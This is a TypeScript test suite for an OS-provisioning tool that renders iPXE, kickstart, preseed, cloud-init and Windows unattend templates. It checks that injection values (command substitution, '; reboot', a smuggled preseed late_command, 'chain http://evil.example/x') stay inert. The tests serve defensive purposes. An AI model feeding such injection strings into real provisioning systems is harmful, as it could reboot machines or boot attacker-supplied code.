import { afterAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  checkTemplates,
  defaultTemplate,
  OS_FAMILIES,
  type OsFamily,
  type RenderContext,
  renderTemplate,
  sampleContext,
  TEMPLATE_NAMES,
  type TemplateName,
} from "../../src/render/index.ts";
import { requireTool } from "../support/tools.ts";

const APPLIANCE = "http://10.0.0.1:8080";
// Every path goosed serves to an installer; a default template must point nowhere else (the lab is air-gapped).
const SERVED_PATHS = ["/boot/", "/artifacts/", "/v1/render/", "/cloud-init/", "/agents/"];

// What an operator, a bundle or a discovered machine could put into a value that lands in a file, a shell or iPXE.
const HOSTILE_HOSTNAME = `node'01"<&>;$(id)\`id\``;
const HOSTILE_VARS = {
  domain: "lab; reboot #",
  root_password_hash: `$6$salt$h'a"sh$(id)\nd-i preseed/late_command string reboot`,
  ssh_authorized_keys: ["ssh-ed25519 AAAA it's `id` $(reboot)", 'ssh-rsa BBBB "quoted" # not a comment'],
  packages: ["vim; reboot", "it's"],
  install_disk: "/dev/sda; reboot",
  mirror_host: "mirror.lab:8080",
  ntp_servers: ["10.0.0.1", "ntp'; id"],
  timezone: "Europe/Berlin",
  admin_password: `p<&"'>w`,
  windows_product_key: "AAAAA-<&>",
  kernel_args: "console=ttyS0 ; chain http://evil.example/x #",
};

type Variant = "sample" | "bare" | "hostile";
const VARIANTS: Variant[] = ["sample", "bare", "hostile"];

/** sample: realistic values; bare: nothing but GLOBAL_DEFAULT_VARS; hostile: metacharacters everywhere. */
function contextFor(family: OsFamily, variant: Variant): RenderContext {
  const context = sampleContext({ profile: { os_family: family } });
  if (variant === "bare") return { ...context, vars: {} };
  if (variant === "hostile") {
    return sampleContext({
      profile: { os_family: family },
      machine: { hostname: HOSTILE_HOSTNAME },
      vars: HOSTILE_VARS,
      message: 'goosed: "x ; chain http://evil.example/x" is not a MAC address #comment && shell',
      menu: {
        entries: [
          { key: "1", profile: "p1", label: "a || chain http://evil.example/x", url: `${APPLIANCE}/boot/menu.ipxe?choice=p1` },
          { key: "22", profile: "p2", label: "b ; shell #", url: `${APPLIANCE}/boot/menu.ipxe?choice=p2` },
        ],
      },
    });
  }
  return context;
}

function render(name: TemplateName, family: OsFamily, variant: Variant): { text: string; context: RenderContext } {
  const context = contextFor(family, variant);
  return { text: renderTemplate(name, defaultTemplate(name, family), context), context };
}

const scratch = mkdtempSync(join(tmpdir(), "goosed-render-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
let files = 0;
function writeScratch(name: string, text: string): string {
  const path = join(scratch, `${files++}-${name}`);
  writeFileSync(path, text);
  return path;
}

function runTool(tool: string, args: string[], stdin?: string): { code: number; stdout: string; stderr: string } {
  const result = Bun.spawnSync([requireTool(tool, TOOL_PACKAGES[tool]), ...args], { stdin: stdin === undefined ? "ignore" : Buffer.from(stdin) });
  return { code: result.exitCode, stdout: result.stdout.toString(), stderr: result.stderr.toString() };
}
const TOOL_PACKAGES: Record<string, string> = { "cloud-init": "cloud-init", xmllint: "libxml2-utils", shellcheck: "shellcheck", python3: "python3" };

function expectShellcheckClean(script: string): void {
  const result = runTool("shellcheck", ["--shell=sh", "--severity=warning", "-"], script);
  expect({ code: result.code, findings: result.stdout }).toEqual({ code: 0, findings: "" });
}

const agentInstall = (context: RenderContext) => `goosed-agent install --url '${context.appliance_url}' --token '${context.token}'`;

describe("every default template renders for every OS family", () => {
  for (const family of OS_FAMILIES) {
    for (const variant of VARIANTS) {
      test(`${family}, ${variant} values`, () => {
        const templates = TEMPLATE_NAMES.map((name) => ({ name, source: defaultTemplate(name, family) }));
        expect(checkTemplates(templates, contextFor(family, variant))).toEqual([]);
      });
    }
  }
});

describe("cloud-init: what `cloud-init schema` accepts", () => {
  const documents: TemplateName[] = ["cloud-init-user-data", "cloud-init-vendor-data", "autoinstall"];
  for (const name of documents) {
    for (const variant of VARIANTS) {
      test(`${name}, ${variant} values`, () => {
        const { text } = render(name, "ubuntu", variant);
        expect(text).toStartWith("#cloud-config\n");
        const result = runTool("cloud-init", ["schema", "--config-file", writeScratch(`${name}.yaml`, text)]);
        const output = result.stdout + result.stderr;
        expect({ code: result.code, output }).toEqual({ code: 0, output: expect.stringContaining("Valid cloud-config") });
        expect(output).not.toMatch(/invalid|error|deprecat/i);
      });
    }
  }

  test("user-data carries hostile values through YAML unchanged", () => {
    const { text, context } = render("cloud-init-user-data", "ubuntu", "hostile");
    const doc = Bun.YAML.parse(text) as Record<string, any>;
    expect(doc.hostname).toBe(HOSTILE_HOSTNAME);
    expect(doc.fqdn).toBe(`${HOSTILE_HOSTNAME}.${HOSTILE_VARS.domain}`);
    expect(doc.users).toEqual([
      { name: "root", lock_passwd: false, hashed_passwd: HOSTILE_VARS.root_password_hash, ssh_authorized_keys: HOSTILE_VARS.ssh_authorized_keys },
    ]);
    expect(doc.packages).toEqual(["curl", ...HOSTILE_VARS.packages]);
    expect(doc.ntp).toEqual({ enabled: true, servers: HOSTILE_VARS.ntp_servers });
    // runcmd runs on the booted system, so the agent's timer is started at once.
    expect(doc.runcmd.at(-1)).toBe(`/usr/local/sbin/${agentInstall(context)} --start`);
  });

  test("user-data without a password hash locks root's password", () => {
    const doc = Bun.YAML.parse(render("cloud-init-user-data", "ubuntu", "bare").text) as Record<string, any>;
    expect(doc.users).toEqual([{ name: "root", lock_passwd: true }]);
    expect(doc.disable_root).toBe(false);
  });

  test("autoinstall: subiquity's document, with the installed system's cloud-config inside", () => {
    const { text, context } = render("autoinstall", "ubuntu", "hostile");
    const { autoinstall } = Bun.YAML.parse(text) as { autoinstall: Record<string, any> };
    expect(autoinstall.version).toBe(1);
    expect(autoinstall.storage).toEqual({ layout: { name: "lvm", match: { path: HOSTILE_VARS.install_disk } } });
    expect(autoinstall.apt.primary).toEqual([{ arches: ["default"], uri: `http://${HOSTILE_VARS.mirror_host}/debian` }]);
    expect(autoinstall["user-data"].hostname).toBe(HOSTILE_HOSTNAME);
    expect(autoinstall["user-data"].users[0].ssh_authorized_keys).toEqual(HOSTILE_VARS.ssh_authorized_keys);
    expect(autoinstall["late-commands"].at(-1)).toBe(`curtin in-target --target=/target -- /usr/local/sbin/${agentInstall(context)}`);
    const bare = (Bun.YAML.parse(render("autoinstall", "ubuntu", "bare").text) as { autoinstall: Record<string, any> }).autoinstall;
    expect(bare.storage).toEqual({ layout: { name: "lvm" } });
    expect(bare.apt).toEqual({ geoip: false, fallback: "offline-install" });
  });

  for (const variant of VARIANTS) {
    test(`runcmd and late-commands, ${variant} values: pass shellcheck and give the agent exactly the URL and token`, () => {
      const userData = render("cloud-init-user-data", "ubuntu", variant);
      const runcmd = (Bun.YAML.parse(userData.text) as { runcmd: string[] }).runcmd;
      const autoinstall = (Bun.YAML.parse(render("autoinstall", "ubuntu", variant).text) as { autoinstall: Record<string, string[]> }).autoinstall;
      // On the booted system (runcmd) the agent starts at once; in the installer it waits for the first boot.
      for (const [commands, where, extra] of [
        [runcmd, "installed", ["--start"]],
        [autoinstall["late-commands"]!, "installer", []],
      ] as const) {
        const script = `set -e\n${commands.join("\n")}\n`;
        expectShellcheckClean(script);
        const run = runProvisioning(script, where);
        expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: "" });
        expect(run.fetched).toBe(`${userData.context.urls.agent_linux}/goosed-agent`);
        expect(run.agentArgs).toEqual([...expectedAgentArgs(userData.context), ...extra]);
      }
    });
  }

  for (const variant of VARIANTS) {
    test(`meta-data, ${variant} values: instance-id per run and the hostname`, () => {
      const { text, context } = render("cloud-init-meta-data", "ubuntu", variant);
      expect(Bun.YAML.parse(text)).toEqual({ "instance-id": `goosed-run-${context.run.id}`, "local-hostname": context.machine.hostname });
    });
  }
});

describe("unattend.xml: well-formed to xmllint", () => {
  /** What an XML reader gets for an XPath string expression (xmllint ends its answer with a newline). */
  const xpath = (path: string, expression: string) => runTool("xmllint", ["--xpath", expression, path]).stdout.replace(/\n$/, "");
  const element = (name: string) => `string(//*[local-name()='${name}'])`;

  for (const variant of VARIANTS) {
    test(`${variant} values`, () => {
      const { text, context } = render("unattend", "windows", variant);
      const path = writeScratch("unattend.xml", text);
      expect(runTool("xmllint", ["--noout", path])).toEqual({ code: 0, stdout: "", stderr: "" });
      expect(xpath(path, element("ComputerName"))).toBe(context.machine.hostname.slice(0, 15));
      expect(xpath(path, element("TimeZone"))).toBe("UTC");
      const command = xpath(path, element("CommandLine"));
      expect(command).toContain(`-Uri '${context.urls.agent_windows}/goosed-agent.ps1'`);
      expect(command).toContain(`& $agent -Install -Url '${context.appliance_url}' -Token '${context.token}'`);
    });
  }

  test("hostile password and product key come back exactly", () => {
    const path = writeScratch("unattend.xml", render("unattend", "windows", "hostile").text);
    const value = (parent: string) => xpath(path, `string(//*[local-name()='${parent}']/*[local-name()='Value'])`);
    expect(value("AdministratorPassword")).toBe(HOSTILE_VARS.admin_password);
    expect(value("Password")).toBe(HOSTILE_VARS.admin_password);
    expect(xpath(path, "string(//*[local-name()='ProductKey']/*[local-name()='Key'])")).toBe(HOSTILE_VARS.windows_product_key);
  });

  test("no product key element when none is set", () => {
    expect(render("unattend", "windows", "bare").text).not.toContain("<ProductKey>");
  });
});

/** The commands iPXE would run: lines joined at a trailing `\` (image/script.c), labels dropped, then split on
 * whitespace and cut at `||`, `&&`, `;` and at a token starting with `#` (core/exec.c). */
function ipxeCommands(script: string): string[][] {
  const commands: string[][] = [];
  let pending = "";
  for (const raw of script.split("\n")) {
    const line = pending + raw.replace(/\r$/, "");
    if (line.endsWith("\\")) {
      pending = line.slice(0, -1);
      continue;
    }
    pending = "";
    const tokens = line.split(/[ \t\n\v\f\r]+/).filter(Boolean);
    if (tokens[0]?.startsWith(":")) tokens.shift();
    let current: string[] = [];
    for (const token of tokens) {
      if (token.startsWith("#")) break;
      if (token === "||" || token === "&&" || token === ";") {
        commands.push(current);
        current = [];
      } else current.push(token);
    }
    if (current.length > 0) commands.push(current);
  }
  return commands;
}

describe("iPXE scripts", () => {
  const scripts: TemplateName[] = ["ipxe-install", "ipxe-local", "ipxe-menu", "ipxe-message"];
  for (const family of OS_FAMILIES) {
    for (const name of scripts) {
      test(`${name} for ${family}: #!ipxe, and every URL is one goosed serves`, () => {
        const { text } = render(name, family, "sample");
        expect(text).toStartWith("#!ipxe\n");
        const urls = text.match(/https?:\/\/[^\s"']+/g) ?? [];
        if (name !== "ipxe-local" && name !== "ipxe-message") expect(urls.length).toBeGreaterThan(0);
        for (const url of urls) {
          expect({ url, served: SERVED_PATHS.some((path) => url.startsWith(`${APPLIANCE}${path}`)) }).toEqual({ url, served: true });
        }
      });

      test(`${name} for ${family}: hostile values add no command`, () => {
        const commandNames = (variant: Variant) => ipxeCommands(render(name, family, variant).text).map((argv) => argv[0]);
        expect(commandNames("hostile")).toEqual(commandNames("sample"));
      });
    }
  }

  test("install for rhel: kernel with initrd=<name>, one initrd per URL, boot, and a :failed exit", () => {
    const { text, context } = render("ipxe-install", "rhel", "sample");
    expect(ipxeCommands(text)).toEqual([
      ["echo", "goosed:", "installing", "rocky9", "on", "node01", "(run", "7)"],
      ["kernel", context.profile.kernel_url, "initrd=initrd.img", ...context.cmdline!.split(" ")],
      ["initrd", "-n", "initrd.img", context.profile.initrd_urls[0]!],
      ["boot"],
      ["goto", "failed"],
      ["echo", "goosed:", "could", "not", "boot", "rocky9,", "see", "the", "messages", "above"],
      ["echo", "goosed:", "returning", "to", "the", "firmware", "in", "10", "seconds"],
      ["sleep", "10"],
      ["exit"],
    ]);
    expect(context.cmdline).toBe(`inst.ks=${context.urls.kickstart} inst.ks.sendmac inst.text ip=dhcp`);
  });

  test("install for windows: wimboot, each artifact under its name, and the answer file", () => {
    const { text, context } = render("ipxe-install", "windows", "sample");
    const commands = ipxeCommands(text).filter((argv) => argv[0] === "kernel" || argv[0] === "initrd");
    expect(commands).toEqual([
      ["kernel", context.profile.kernel_url],
      ...["bootmgr.efi", "BCD", "boot.sdi", "boot.wim"].map((file) => ["initrd", "-n", file, context.profile.artifacts[file]!, file]),
      ["initrd", "-n", "autounattend.xml", context.urls.unattend, "autounattend.xml"],
    ]);
  });

  test("ubuntu's ds=nocloud-net;s=URL stays one kernel argument", () => {
    const { text, context } = render("ipxe-install", "ubuntu", "sample");
    const kernel = ipxeCommands(text).find((argv) => argv[0] === "kernel")!;
    expect(kernel).toContain(`ds=nocloud-net;s=${context.urls.cloud_init}`);
    expect(kernel).toContain(`url=${context.profile.artifacts["ubuntu-24.04-live-server-amd64.iso"]}`);
    expect(kernel).toContain("cloud-config-url=/dev/null");
  });

  test("menu: one item per entry plus the local disk, chosen with a timeout", () => {
    const { text, context } = render("ipxe-menu", "rhel", "sample");
    const commands = ipxeCommands(text);
    expect(commands.filter((argv) => argv[0] === "item")).toEqual([
      ["item", "--key", "1", "entry-1", "1.", "Rocky", "Linux", "9"],
      ["item", "--key", "2", "entry-2", "2.", "Debian", "12"],
      ["item", "--gap"],
      ["item", "local", "Boot", "the", "local", "disk"],
    ]);
    expect(commands).toContainEqual(["choose", "--timeout", "30000", "--default", "local", "target"]);
    expect(commands.filter((argv) => argv[0] === "chain")).toEqual(context.menu!.entries.map((entry) => ["chain", entry.url]));
  });

  test("message: each line echoed, hostile text stays text", () => {
    const context = { ...contextFor("custom", "hostile"), message: 'goosed: "x ; chain http://evil.example/x" is not a MAC\nsecond line #comment\\' };
    expect(ipxeCommands(renderTemplate("ipxe-message", defaultTemplate("ipxe-message"), context))).toEqual([
      ["echo", "goosed:", '"x', '";"', "chain", 'http://evil.example/x"', "is", "not", "a", "MAC"],
      ["echo", "second", "line", '"#comment\\"'],
      ["sleep", "10"],
      ["exit"],
    ]);
  });

  test("menu: a key longer than one character is shown but not bound", () => {
    const items = ipxeCommands(render("ipxe-menu", "rhel", "hostile").text).filter((argv) => argv[0] === "item");
    expect(items.slice(0, 2)).toEqual([
      ["item", "--key", "1", "entry-1", "1.", "a", '"||"', "chain", "http://evil.example/x"],
      ["item", "entry-2", "22.", "b", '";"', "shell", '"#"'],
    ]);
  });
});

/**
 * Runs a provisioning script against stub curl, wget, in-target and curtin inside a scratch root. `installed` scripts
 * run on the installed system (kickstart %post, cloud-init runcmd): /usr/local/sbin moves into the root. `installer`
 * scripts see the installed system at /target (preseed late_command, subiquity late-commands): /target moves.
 * The fetched "agent" records the arguments it was run with.
 */
function runProvisioning(script: string, where: "installed" | "installer") {
  const root = mkdtempSync(join(scratch, "root-"));
  const target = join(root, "target");
  const bin = join(root, "stub-bin");
  mkdirSync(join(target, "usr", "local", "sbin"), { recursive: true });
  mkdirSync(bin);
  const fetch = `printf '%s' "$url" > "$STUB_ROOT/fetched"
cat > "$out" <<'AGENT'
#!/bin/sh
for a; do printf '%s\\0' "$a"; done > "$STUB_ROOT/agent-args"
AGENT`;
  const stubs: Record<string, string> = {
    // curl -fsS --retry N --retry-connrefused -o FILE URL
    curl: `while [ $# -gt 0 ]; do case "$1" in -o) out=$2; shift 2 ;; --retry) shift 2 ;; -*) shift ;; *) url=$1; shift ;; esac; done\n${fetch}`,
    // wget -q -O FILE URL
    wget: `while [ $# -gt 0 ]; do case "$1" in -O) out=$2; shift 2 ;; -*) shift ;; *) url=$1; shift ;; esac; done\n${fetch}`,
    // in-target COMMAND ARGS...: runs COMMAND inside /target
    "in-target": `command=$1; shift; exec "$STUB_TARGET$command" "$@"`,
    // curtin in-target --target=DIR -- COMMAND ARGS...
    curtin: `while [ "$1" != -- ]; do shift; done; shift; command=$1; shift; exec "$STUB_TARGET$command" "$@"`,
  };
  for (const [name, body] of Object.entries(stubs)) {
    writeFileSync(join(bin, name), `#!/bin/sh\n${body}\n`);
    chmodSync(join(bin, name), 0o755);
  }
  const moved = where === "installed" ? script.replaceAll("/usr/local/sbin", join(target, "usr", "local", "sbin")) : script.replaceAll("/target", target);
  const result = Bun.spawnSync(["sh", "-c", moved], { env: { ...process.env, PATH: `${bin}:${process.env.PATH}`, STUB_ROOT: root, STUB_TARGET: target } });
  const read = (file: string) => (existsSync(join(root, file)) ? readFileSync(join(root, file), "utf8") : null);
  return {
    code: result.exitCode,
    stderr: result.stderr.toString(),
    target,
    fetched: read("fetched"),
    agentArgs: read("agent-args")?.split("\0").slice(0, -1) ?? null,
  };
}

const expectedAgentArgs = (context: RenderContext) => ["install", "--url", context.appliance_url, "--token", context.token];

describe("kickstart", () => {
  const section = (text: string, header: string) => {
    const lines = text.split("\n");
    const start = lines.findIndex((line) => line.startsWith(header));
    expect(start).toBeGreaterThan(-1);
    return `${lines.slice(start + 1, lines.indexOf("%end", start)).join("\n")}\n`;
  };

  for (const variant of VARIANTS) {
    test(`${variant} values: %pre and %post pass shellcheck; the agent gets exactly the URL and token`, () => {
      const { text, context } = render("kickstart", "rhel", variant);
      expect(text).toContain(agentInstall(context));
      expectShellcheckClean(section(text, "%pre"));
      const post = section(text, "%post");
      expectShellcheckClean(post);
      const run = runProvisioning(post, "installed");
      expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: "" });
      expect(run.fetched).toBe(`${context.urls.agent_linux}/goosed-agent`);
      expect(run.agentArgs).toEqual(expectedAgentArgs(context));
    });
  }

  test("hostile values reach Anaconda as single arguments (pykickstart splits lines with shlex)", () => {
    const { text } = render("kickstart", "rhel", "hostile");
    const commands = ["network", "rootpw", "sshkey", "timezone", "lang"];
    const lines = text.split("\n").filter((line) => commands.includes(line.split(" ")[0]!));
    const split = runTool("python3", ["-c", "import json, shlex, sys; print(json.dumps([shlex.split(l, comments=True) for l in sys.stdin.read().splitlines()]))"], lines.join("\n"));
    expect(split.code).toBe(0);
    expect(JSON.parse(split.stdout)).toEqual([
      ["network", "--bootproto=dhcp", "--device=link", "--activate", `--hostname=${HOSTILE_HOSTNAME}.${HOSTILE_VARS.domain}`],
      ["lang", "en_US.UTF-8"],
      ["timezone", "Europe/Berlin", "--utc", `--ntpservers=${HOSTILE_VARS.ntp_servers.join(",")}`],
      ["rootpw", "--iscrypted", HOSTILE_VARS.root_password_hash.replace("\n", " ")],
      ...HOSTILE_VARS.ssh_authorized_keys.map((key) => ["sshkey", "--username=root", key]),
    ]);
    expect(section(text, "%packages")).toBe(["@core", "curl", ...HOSTILE_VARS.packages, ""].join("\n"));
  });

  test("%pre writes the partitioning for the disk it was given, without running what the name holds", () => {
    const pre = section(render("kickstart", "rhel", "hostile").text, "%pre").replaceAll("/tmp/goosed-disk.ks", join(scratch, "goosed-disk.ks"));
    const result = Bun.spawnSync(["sh", "-c", pre]);
    expect(result.exitCode).toBe(0);
    expect(readFileSync(join(scratch, "goosed-disk.ks"), "utf8")).toBe(
      [
        "ignoredisk --only-use=/dev/sda; reboot",
        "zerombr",
        "clearpart --all --initlabel --drives=/dev/sda; reboot",
        "autopart --type=lvm",
        "bootloader --boot-drive=/dev/sda; reboot",
        "",
      ].join("\n"),
    );
  });

  test("a repository and proxy when set, locked root without a hash", () => {
    const withRepo = renderTemplate("kickstart", defaultTemplate("kickstart"), {
      ...sampleContext(),
      vars: { repo_url: "http://10.0.0.1:8080/repo/rocky9/BaseOS", http_proxy: "http://proxy.lab:3128" },
    });
    expect(withRepo).toContain("url --url='http://10.0.0.1:8080/repo/rocky9/BaseOS' --proxy='http://proxy.lab:3128'\n");
    expect(withRepo).toContain("\nrootpw --lock\n");
    expect(render("kickstart", "rhel", "bare").text).not.toContain("url --url");
  });
});

describe("preseed", () => {
  /** debconf lines after joining `\` continuations, without comments and blank lines. */
  const logicalLines = (text: string) =>
    text
      .replaceAll("\\\n", "")
      .split("\n")
      .filter((line) => line !== "" && !line.startsWith("#"));
  const valueOf = (text: string, question: string) => {
    const line = logicalLines(text).find((l) => l.startsWith(`d-i ${question} `));
    return line?.replace(/^d-i \S+ \S+ ?/, "");
  };

  for (const variant of VARIANTS) {
    test(`${variant} values: every line is a debconf answer, commands pass shellcheck, the agent gets the URL and token`, () => {
      const { text, context } = render("preseed", "debian", variant);
      for (const line of logicalLines(text)) {
        expect(line).toMatch(/^(d-i|tasksel|popularity-contest) [a-z0-9_-]+\/[A-Za-z0-9_/-]+ (string|boolean|select|multiselect|password|note)( |$)/);
      }
      expect(text).toContain(agentInstall(context));
      const late = valueOf(text, "preseed/late_command")!;
      expectShellcheckClean(`${late}\n`);
      const early = valueOf(text, "partman/early_command");
      if (early !== undefined) expectShellcheckClean(`${early}\n`);

      const run = runProvisioning(late, "installer");
      expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: "" });
      expect(run.fetched).toBe(`${context.urls.agent_linux}/goosed-agent`);
      expect(run.agentArgs).toEqual(expectedAgentArgs(context));
      const keys = (context.vars.ssh_authorized_keys as string[] | undefined) ?? [];
      const authorizedKeys = join(run.target, "root", ".ssh", "authorized_keys");
      if (keys.length === 0) expect(existsSync(authorizedKeys)).toBe(false);
      else expect(readFileSync(authorizedKeys, "utf8")).toBe(keys.map((key) => `${key}\n`).join(""));
    });
  }

  test("hostile values stay on their own line", () => {
    const { text } = render("preseed", "debian", "hostile");
    expect(valueOf(text, "passwd/root-password-crypted")).toBe(HOSTILE_VARS.root_password_hash.replace("\n", " "));
    expect(valueOf(text, "pkgsel/include")).toBe(`curl ${HOSTILE_VARS.packages.join(" ")}`);
    expect(valueOf(text, "partman-auto/disk")).toBe(HOSTILE_VARS.install_disk);
    expect(valueOf(text, "mirror/http/hostname")).toBe(HOSTILE_VARS.mirror_host);
  });

  test("without a mirror, a disk or a hash: no mirror, the first disk, root without a usable password", () => {
    const { text } = render("preseed", "debian", "bare");
    expect(valueOf(text, "apt-setup/use_mirror")).toBe("false");
    expect(valueOf(text, "mirror/http/hostname")).toBeUndefined();
    expect(valueOf(text, "partman/early_command")).toBe('debconf-set partman-auto/disk "$(list-devices disk | head -n1)"');
    expect(valueOf(text, "passwd/root-password-crypted")).toBe("*");
  });
});

describe("cmdline", () => {
  test.each([
    ["rhel", "inst.ks={kickstart} inst.ks.sendmac inst.text ip=dhcp"],
    ["debian", "auto=true priority=critical url={preseed} interface=auto netcfg/get_hostname=node01 netcfg/hostname=node01 netcfg/get_domain="],
    ["ubuntu", "autoinstall ip=dhcp url={iso} cloud-config-url=/dev/null ds=nocloud-net;s={cloud_init}"],
    ["windows", ""],
    ["custom", ""],
  ] as const)("%s", (family, expected) => {
    const context = { ...sampleContext({ profile: { os_family: family } }), vars: {} };
    const line = renderTemplate("cmdline", defaultTemplate("cmdline", family), context).trim();
    expect(line).toBe(
      expected
        .replace("{kickstart}", context.urls.kickstart)
        .replace("{preseed}", context.urls.preseed)
        .replace("{cloud_init}", context.urls.cloud_init)
        .replace("{iso}", context.profile.artifacts["ubuntu-24.04-live-server-amd64.iso"] ?? ""),
    );
  });

  test("repo_url and kernel_args are added when set", () => {
    const context = { ...sampleContext(), vars: { repo_url: "http://10.0.0.1:8080/repo/rocky9", kernel_args: "console=ttyS0,115200n8" } };
    expect(renderTemplate("cmdline", defaultTemplate("cmdline", "rhel"), context).trim()).toBe(
      `inst.ks=${context.urls.kickstart} inst.ks.sendmac inst.text ip=dhcp inst.repo=http://10.0.0.1:8080/repo/rocky9 console=ttyS0,115200n8`,
    );
    expect(renderTemplate("cmdline", defaultTemplate("cmdline", "custom"), context).trim()).toBe("console=ttyS0,115200n8");
  });
});
